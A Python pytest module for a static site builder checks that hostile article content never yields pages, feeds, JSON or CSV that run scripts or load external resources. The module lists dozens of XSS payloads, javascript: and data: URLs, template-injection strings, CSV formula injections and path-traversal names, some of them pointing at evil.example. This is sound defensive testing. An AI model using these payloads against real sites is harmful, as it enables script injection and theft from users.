"""Whatever an article says, no page, feed or file of the site runs it, loads it or leads to a script."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser

from site_builder import files, frontmatter, settings
from site_builder.edtf import Date
from site_builder.model import (
    Area,
    Article,
    Finding,
    Framework,
    Grade,
    Inspection,
    Judgement,
    Metadata,
    Polarity,
    Problems,
    Quote,
    Role,
    Source,
    SourceKind,
    Tally,
    Theme,
)
from site_builder.site import Ground, publish

ROOT = Path(__file__).parent.parent

# Each would run `hacked()` or load something from elsewhere, were it ever taken for markup.
PAYLOADS = (
    "<script>hacked()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>hacked()</script\n>",
    "</script><script>hacked()</script>",
    "</title><script>hacked()</script>",
    "</style><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "--><script>hacked()</script><!--",
    "]]><script>hacked()</script><![CDATA[",
    '"><script>hacked()</script>',
    "'><script>hacked()</script>",
    '"><img src=x onerror=hacked()>',
    "' onfocus='hacked()' autofocus='",
    '" onmouseover="hacked()" x="',
    "` onclick=hacked() `",
    "<img src=x onerror=hacked()>",
    "<img/src=x/onerror=hacked()>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x><script>hacked()</script></svg>#x">',
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>",
    "<math href=javascript:hacked()>click</math>",
    '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
    "<iframe src=javascript:hacked()></iframe>",
    '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
    "<object data=javascript:hacked()></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:hacked()">',
    "<form action=https://evil.example/><button>go</button></form>",
    "<button formaction=javascript:hacked()>go</button>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<body onload=hacked()>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/)">',
    "<template><script>hacked()</script></template>",
    "<dialog open onclose=hacked()>",
    "<a href=javascript:hacked()>link</a>",
    '<a href="&#106;avascript:hacked()">link</a>',
    '<a href="java&#9;script:hacked()">link</a>',
    "[link](javascript:hacked())",
    "[link](JaVaScRiPt:hacked())",
    "[link](javascript&colon;hacked())",
    "[link](java&#x09;script:hacked())",
    "[link](<java\tscript:hacked()>)",
    "[link](\\javascript:hacked())",
    "[link](vbscript:hacked())",
    "[link](data:text/html,<script>hacked()</script>)",
    "[link](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "[link](file:///etc/passwd)",
    '[link](https://example.org/ "title\\" onclick=hacked() x=")',
    '[link](https://example.org/"onclick=hacked())',
    "![image](https://evil.example/pixel.gif)",
    "![image](javascript:hacked())",
    '!["onerror=hacked() x=](x)',
    "<javascript:hacked()>",
    "<javascript:alert(1)//https://example.org>",
    "[reference]\n\n[reference]: javascript:hacked()",
    '```"><script>hacked()</script>\ncode\n```',
    "``<script>hacked()</script>``",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hacked()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "\u2028<script>hacked()</script>\u2029",
    "\ufeff<script>hacked()</script>",
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "{{ 7 * 7 }}{% include 'base.html' %}{{ site }}",
    "{{ ''.__class__.__mro__ }}",
    "${hacked()}",
    '"}</script><script>hacked()</script>{"',
    '\\"></script><script>hacked()</script>',
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)

URLS = (
    "javascript:hacked()",
    "JAVASCRIPT:hacked()",
    "java\tscript:hacked()",
    " javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "vbscript:hacked()",
    "file:///etc/passwd",
    "//evil.example/",
    "https:javascript:hacked()",
    'https://example.org/"onclick="hacked()',
    "https://example.org/'onclick='hacked()",
    "https://example.org/<script>hacked()</script>",
    'https://example.org/\\"><script>hacked()</script>',
)


def hostile(number: int, payload: str, url: str | None = None) -> Article:
    """An article that says `payload` wherever it can say anything."""
    judgement = Judgement(Area.LEADERSHIP, Grade.GOOD, (payload,))
    tally = Tally(Area.OVERALL, ((Grade.GOOD, 7),), (payload,))
    inspection = Inspection(
        "tameside",
        Role.SUBJECT,
        Framework.MONITORING_VISIT,
        started=Date.parse(f"20{10 + number % 10}-05"),
        focus=(Theme.ADOPTION,),
        judgements=(judgement,),
        tallies=(tally,),
        evidence=(payload,),
    )
    metadata = Metadata(
        title=payload,
        published=Date.parse("2018-05-14"),
        source=Source(payload, url, SourceKind.NEWSPAPER),
        report_url=url,
        authority="tameside",
        authorities=("tameside",),
        themes=(Theme.ADOPTION,),
        inspections=(inspection,),
        findings=(Finding(payload, Polarity.STRENGTH, (Theme.ADOPTION,)),),
        quotes=(Quote(payload, payload, payload, payload),),
        inspector_quotes=(payload,),
        raw="hostile.txt",
    )
    body = (
        f"# {payload}\n\n{payload}\n\n> {payload}\n\n- {payload}\n\n| {payload} | b |\n|---|---|\n| {payload} | d |\n"
    )
    return Article(f"hostile-{number}", metadata, body)


def as_an_editor_writes(article: Article) -> Article | None:
    """The article after its way through a file; None where the file is refused."""
    try:
        return frontmatter.parse(f"content/articles/{article.slug}.md", frontmatter.dump(article))
    except Problems:
        return None


@pytest.fixture(scope="module")
def site(request: pytest.FixtureRequest) -> dict[str, bytes]:
    """The site of one article a payload."""
    request.getfixturevalue("node_modules")
    written = [hostile(number, payload, "https://example.org/") for number, payload in enumerate(PAYLOADS)]
    written += [hostile(len(PAYLOADS) + number, "An article", url) for number, url in enumerate(URLS)]
    articles = [article for article in map(as_an_editor_writes, written) if article]
    assert len(articles) >= len(PAYLOADS), "payloads in words are allowed: they must be shown, not refused"
    return published(articles)


def published(articles: list[Article]) -> dict[str, bytes]:
    return publish(
        articles,
        Ground(
            files.read_register(ROOT),
            files.read_labels(),
            settings.publication(ROOT),
            files.read_templates(ROOT),
            files.read_assets(ROOT),
        ),
    )


@dataclass(frozen=True)
class Element:
    tag: str
    attributes: dict[str, str]
    text: str = ""


class Elements(HTMLParser):
    """Every element of a page, scripts with what stands in them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[Element] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(Element(tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.found and self.found[-1].tag in ("script", "style"):
            self.found[-1] = replace(self.found[-1], text=self.found[-1].text + data)


LOADING = ("src", "href", "action", "poster", "data", "xlink:href", "srcset", "ping", "background")
FORBIDDEN = {
    *("applet", "audio", "base", "embed", "frame", "iframe", "img", "math", "object", "style", "video"),
    *("animate", "foreignobject", "set"),
}


def wrong(element: Element, own: str) -> str | None:
    """What must not be in a page of the site at `own`, in a word; None for an element that may stay."""
    attributes = element.attributes
    if element.tag in FORBIDDEN:
        return "tag"
    if any(name.startswith("on") or name in ("style", "srcdoc", "formaction", "http-equiv") for name in attributes):
        return "attribute"
    if element.tag == "script" and attributes.get("type") == "application/ld+json":
        json.loads(element.text)
    elif element.tag == "script" and (element.text.strip() or "src" not in attributes):
        return "script"
    for name in LOADING:
        target = attributes.get(name, "").strip()
        if element.tag == "a":
            if urlsplit(target).scheme not in ("", "https", "http", "mailto"):
                return "link"
        elif target and not target.startswith(own) and (target.startswith("//") or target[0] not in "/#?"):
            return "load"
    return None


def pages(site: dict[str, bytes]) -> Iterator[tuple[str, str]]:
    """The pages that show something of the articles."""
    for path, body in site.items():
        if path.endswith(".html") and (b"hostile" in body or b"hacked" in body or b"evil.example" in body):
            yield path, body.decode()


def test_no_page_holds_what_runs_or_loads_from_elsewhere(site: dict[str, bytes]) -> None:
    own = settings.publication(ROOT).base_url
    assert len(list(pages(site))) > len(PAYLOADS)
    found = [
        (path, wrong(element, own), element)
        for path, page in pages(site)
        for element in Elements(page).found
        if wrong(element, own)
    ]
    assert found == []


def test_the_words_are_shown_all_the_same(site: dict[str, bytes]) -> None:
    page = site["articles/hostile-0/index.html"].decode()
    assert "&lt;script&gt;hacked()&lt;/script&gt;" in page
    assert "<script>hacked()" not in page


def test_no_template_is_read_out_of_an_article(site: dict[str, bytes]) -> None:
    number = PAYLOADS.index("{{ 7 * 7 }}{% include 'base.html' %}{{ site }}")
    page = site[f"articles/hostile-{number}/index.html"].decode()
    assert "{{ 7 * 7 }}" in page


def test_feeds_are_well_formed_and_lead_nowhere_strange(site: dict[str, bytes]) -> None:
    feeds = {path: body for path, body in site.items() if path.endswith("feed.xml")}
    assert feeds
    for path, body in feeds.items():
        for element in ElementTree.fromstring(body).iter():
            assert urlsplit(element.get("href", "")).scheme in ("", "https", "http", "mailto"), path
            if element.get("type") in ("html", "xhtml"):
                assert [each for each in Elements(element.text or "").found if wrong(each, "/")] == []
    for path, body in site.items():
        if path.endswith(("sitemap.xml", "opensearch.xml")):
            ElementTree.fromstring(body)


def test_json_is_well_formed_and_its_addresses_lead_nowhere_strange(site: dict[str, bytes]) -> None:
    def addresses(value: object, key: str = "") -> Iterator[str]:
        if isinstance(value, dict):
            for name, inner in value.items():
                yield from addresses(inner, name)
        elif isinstance(value, list):
            for inner in value:
                yield from addresses(inner, key)
        elif isinstance(value, str) and ("url" in key.lower() or key in ("href", "link", "id")):
            yield value

    texts = {path: body for path, body in site.items() if path.endswith(".json")}
    assert texts
    for path, body in texts.items():
        for address in addresses(json.loads(body)):
            assert not address.lower().lstrip().startswith(("javascript:", "data:", "vbscript:", "file:")), path


def test_no_cell_is_taken_for_a_formula(site: dict[str, bytes]) -> None:
    tables = {path: body for path, body in site.items() if path.endswith(".csv")}
    assert tables
    for path, body in tables.items():
        for row in csv.reader(StringIO(body.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "-", "\t", "\r")), (path, cell)


@pytest.mark.parametrize("url", URLS)
def test_an_address_that_is_none_of_the_webs_is_refused_or_harmless(url: str) -> None:
    article = as_an_editor_writes(hostile(0, "An article", url))
    if article:
        assert article.metadata.source
        assert urlsplit(article.metadata.source.url or "").scheme in ("https", "http")
        assert urlsplit(article.metadata.source.url or "").netloc


@pytest.mark.parametrize(
    "name",
    [
        '"><script>hacked()<',
        "a b",
        "' onclick=hacked() x='",
        "javascript:hacked()",
        "%2e%2e%2f",
        "a\\b",
        "a?b",
        "a#b",
        "%3Cscript%3E",
        "<img src=x>",
        "A",
        "caf\u00e9",
        "a\nb",
        "-a",
        "a--b",
    ],
)
def test_a_file_name_that_is_no_address_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "content/articles").mkdir(parents=True)
    (tmp_path / "content/articles" / f"{name}.md").write_text("---\ntitle: A title\n---\n\nText.\n")
    with pytest.raises(Problems):
        files.read_articles(tmp_path)


# What a browser makes of a page is not always what a parser in a book says: here Chromium itself is asked.
LOOK = """pages => {
  const found = [];
  for (const [path, text] of pages) {
    const page = new DOMParser().parseFromString(text, 'text/html');
    for (const element of page.querySelectorAll('*')) {
      const name = element.localName;
      const script = name === 'script' && element.type !== 'application/ld+json' &&
        !element.getAttribute('src')?.startsWith('/assets/');
      const handler = [...element.attributes].some(({name}) => name.startsWith('on') || name === 'style');
      const strange = element.protocol && !['http:', 'https:', 'mailto:', 'about:', ':'].includes(element.protocol);
      if (script || handler || strange || ['iframe', 'object', 'embed', 'base', 'style', 'img'].includes(name))
        found.push(`${path}: ${element.outerHTML.slice(0, 200)}`);
    }
  }
  return found;
}"""


@pytest.mark.browser
def test_a_browser_finds_nothing_that_runs(site: dict[str, bytes], browser: Browser) -> None:
    page = browser.new_page()
    told = list(pages(site))
    assert len(told) > len(PAYLOADS)
    found = [wrong for start in range(0, len(told), 20) for wrong in page.evaluate(LOOK, told[start : start + 20])]
    page.close()
    assert found == []
